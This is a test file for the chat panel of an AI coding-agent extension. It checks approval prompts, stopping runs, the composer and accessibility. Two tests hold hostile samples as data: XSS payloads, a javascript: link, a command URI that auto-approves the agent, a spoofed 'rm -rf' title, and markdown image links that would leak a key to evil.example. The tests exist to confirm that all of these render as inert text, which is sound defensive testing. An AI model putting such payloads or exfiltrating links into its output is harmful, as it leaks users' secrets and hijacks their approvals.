import { afterEach, beforeEach, expect, test, vi } from 'vitest';
import { EVENTS } from '../../test/unit/chat/recorded';
import { blank, shownAfter } from '../../src/chat/shown';
import { opened } from './opened';
import { after, SCENES } from './scenes';

beforeEach(() => {
  vi.useFakeTimers();
});
afterEach(() => {
  vi.useRealTimers();
});

const READY = SCENES['empty'] ?? blank({ daemon: { kind: 'ready' } });

function scene(name: string): typeof READY {
  const found = SCENES[name];
  if (!found) {
    throw new Error(`no scene ${name}`);
  }
  return found;
}

function key(target: HTMLElement, name: string, more: KeyboardEventInit = {}): void {
  target.dispatchEvent(new KeyboardEvent('keydown', { key: name, bubbles: true, cancelable: true, ...more }));
}

function type(target: HTMLTextAreaElement, text: string): void {
  target.value = text;
  target.dispatchEvent(new Event('input', { bubbles: true }));
}

test('what a model and its tools say is never more than text', () => {
  const { one, all } = opened(scene('deceit'));
  expect(all('img, script, iframe, object, [href], [src], [onerror], [style*="url"]')).toEqual([]);
  expect(one('.bubble').textContent).toBe('Look at <b>this</b>\\u202e');
  expect(one('.markdown').textContent).toBe(
    '<img src=x onerror=alert(1)> [click](javascript:alert(1)) [go](command:agentLsp.allow)\\u202e abc',
  );
  expect(one('.call-title').textContent).toBe(
    'Run rm -rf \\u202etxt.safe\\u202c \\x1b[31mred\\x1b[0m; echo <img src=x onerror=alert(1)>',
  );
});

test('rows 30 and 42 of the published failures: an answer loads nothing, and tells where its links lead', () => {
  const leak = `https://evil.example/${'a'.repeat(400)}?stolen=key`;
  const head = { sessionId: 's', turnId: 't', seq: 1 };
  const text = [
    `![chart](${leak}) ![](${leak}) [docs](${leak}) [here](src/tax.py) <${leak}>`,
    `[![badge](${leak})](${leak})`,
    '',
    '```mermaid',
    `graph TD; A["<img src='${leak}'>"]`,
    '```',
    '',
    `<img src="${leak}"> <link rel=preload href="${leak}">`,
  ].join('\n');
  const { one, all } = opened(
    after(READY, [
      { type: 'event', event: { ...head, kind: 'turnStarted', prompt: 'go', model: 'm' } },
      { type: 'event', event: { ...head, kind: 'textDelta', text, offset: 0 } },
    ]),
  );
  expect(all('img, svg, link, iframe, object, video, [href], [src], [srcset], [style*="url"]')).toEqual([]);
  expect(new Set(all('.markdown a').map((made) => made.title))).toEqual(new Set([leak, 'src/tax.py']));
  expect(one('.markdown p').textContent).toBe(
    `chart (${leak}) ${leak} docs (${leak}) here ${leak}\nbadge (${leak}) (${leak})`,
  );
});

test('links are followed by the extension, by mouse and by key', () => {
  const { said, all } = opened(scene('done'));
  const [file, web] = all('.markdown a');
  file?.click();
  if (web) key(web, 'Enter');
  expect(said).toEqual([
    { type: 'openLink', target: 'src/tax.py#L6' },
    { type: 'openLink', target: 'https://docs.python.org/3/library/functions.html#round' },
  ]);
});

test('a question has the safe answer first and takes no focus', () => {
  const page = opened(READY);
  page.field('.composer textarea').focus();
  page.page.update(scene('asking-edit'));
  expect(page.all('.card-choices button').map((button) => button.textContent)).toEqual([
    'Reject',
    'Allow Once',
    'Allow for Session',
    'Open Diff',
  ]);
  expect(document.activeElement).toBe(page.one('.composer textarea'));
});

test('a yes that comes too quickly is not taken, a no is', () => {
  const { said, button } = opened(scene('asking-command'));
  button('Allow Once').click();
  expect(said).toEqual([]);
  button('Reject').click();
  expect(said).toEqual([{ type: 'decide', approvalId: 'approval_2', decision: { decision: 'reject' } }]);
});

test('a question is answered once', () => {
  const { said, button } = opened(scene('asking-command'));
  vi.advanceTimersByTime(600);
  button('Allow Once').click();
  button('Reject').click();
  expect(said).toEqual([{ type: 'decide', approvalId: 'approval_2', decision: { decision: 'allow_once' } }]);
});

test('hunks are left out one by one, and none at all cannot be allowed', () => {
  const { said, all, button } = opened(scene('asking-edit'));
  vi.advanceTimersByTime(600);
  const [first, second] = all('.hunk input');
  first?.click();
  button('Allow 1 of 2').click();
  expect(said).toEqual([
    { type: 'decide', approvalId: 'approval_1', decision: { decision: 'allow_once', hunks: ['2'] } },
  ]);
  second?.click();
  expect(button('Allow 0 of 2').disabled).toBe(true);
  expect(button('Reject').disabled).toBe(false);
});

test('words for the model go with a no', () => {
  const { said, field, button } = opened(scene('asking-edit'));
  type(field('.card textarea'), ' use Decimal ');
  button('Reject and Tell').click();
  const decision = { decision: 'reject', feedback: 'use Decimal' };
  expect(said).toEqual([{ type: 'decide', approvalId: 'approval_1', decision }]);
});

test('Enter sends, Shift with Enter does not, and what was typed is kept', () => {
  const { said, drafts, field } = opened(READY);
  const textarea = field('.composer textarea');
  type(textarea, 'go on');
  key(textarea, 'Enter', { shiftKey: true });
  expect(said).toEqual([]);
  expect(drafts.at(-1)).toEqual({ text: 'go on', attach: true });
  key(textarea, 'Enter');
  expect(said).toEqual([{ type: 'ask', prompt: 'go on', attach: true }]);
  expect(textarea.value).toBe('');
});

test('nothing is sent while there is no daemon, and the banner has the remedy', () => {
  const { said, one, button } = opened(scene('failed'), { text: 'go', attach: true });
  key(one('.composer textarea'), 'Enter');
  button('Open Settings').click();
  expect(said).toEqual([{ type: 'remedy', of: 'daemon' }]);
});

test('a prompt that was not taken is in the field again', () => {
  const { page, one, field } = opened(shownAfter(READY, { type: 'sent', prompt: 'go' }));
  page.update(
    after(READY, [
      { type: 'sent', prompt: 'go' },
      { type: 'notice', line: 'no model' },
    ]),
  );
  expect(field('.composer textarea').value).toBe('go');
  expect(one('.banner.error').textContent).toContain('no model');
});

test('the attachment can be left out', () => {
  const { said, one } = opened(READY, { text: 'go', attach: true });
  one('.chip').click();
  expect(one('.chip').getAttribute('aria-pressed')).toBe('false');
  key(one('.composer textarea'), 'Enter');
  expect(said).toEqual([{ type: 'ask', prompt: 'go', attach: false }]);
});

test('a running turn can be stopped, by button and by key', () => {
  const { said, button } = opened(scene('streaming'));
  button('Stop (Ctrl+Escape)').click();
  key(document.body, 'Escape', { ctrlKey: true });
  key(document.body, 'Escape');
  expect(said).toEqual([{ type: 'cancel' }, { type: 'cancel' }]);
});

test('a turn that a limit ended can go on', () => {
  const { said, button, one } = opened(scene('limit'));
  expect(one('.foot').textContent).toContain('50 of 50 steps (maxSteps)');
  button('Go on').click();
  expect(said).toEqual([{ type: 'continue' }]);
});

test('a page that is made anew shows what the old one did', () => {
  const shown = after(
    READY,
    EVENTS.map((event) => ({ type: 'event', event })),
  );
  const old = opened(READY);
  EVENTS.reduce((before, event) => {
    const next = shownAfter(before, { type: 'event', event });
    old.page.update(next);
    return next;
  }, READY);
  const html = old.one('.turns').innerHTML;
  expect(opened(shown).one('.turns').innerHTML).toBe(html);
});

test('a screen reader is told how things turn out, and not each word', () => {
  const page = opened(READY);
  const heard: string[] = [];
  EVENTS.reduce(
    (before, event) => {
      const next = shownAfter(before, { type: 'event', event });
      page.page.update(next);
      const said = page.one('[aria-live=polite]').textContent;
      if (said !== heard.at(-1)) heard.push(said);
      return next;
    },
    shownAfter(READY, { type: 'taken', sessionId: 'session_1', prompt: '', joined: false }),
  );
  expect(heard.filter((line) => line !== '')).toEqual([
    expect.stringMatching(/^The agent has answered: Done: the price/),
  ]);
});

test('suggestions are put into the field for the user to send', () => {
  const { said, field, all } = opened(READY);
  all('.suggestion')[0]?.click();
  expect(field('.composer textarea').value).toMatch(/^Explain/);
  expect(said).toEqual([]);
});

test('a tool call unfolds to what went in and what came out', () => {
  const { all } = opened(scene('done'));
  const call = all('.call').find((row) => row.textContent.includes('Run echo')) as HTMLDetailsElement; // as: .call is details
  expect(call.querySelector('.call-body')?.textContent).toBe('');
  call.open = true;
  call.dispatchEvent(new Event('toggle'));
  expect(call.querySelector('.call-body')?.textContent).toContain('command: echo one');
  expect(call.querySelector('.call-body')?.textContent).toContain('2 passed');
});
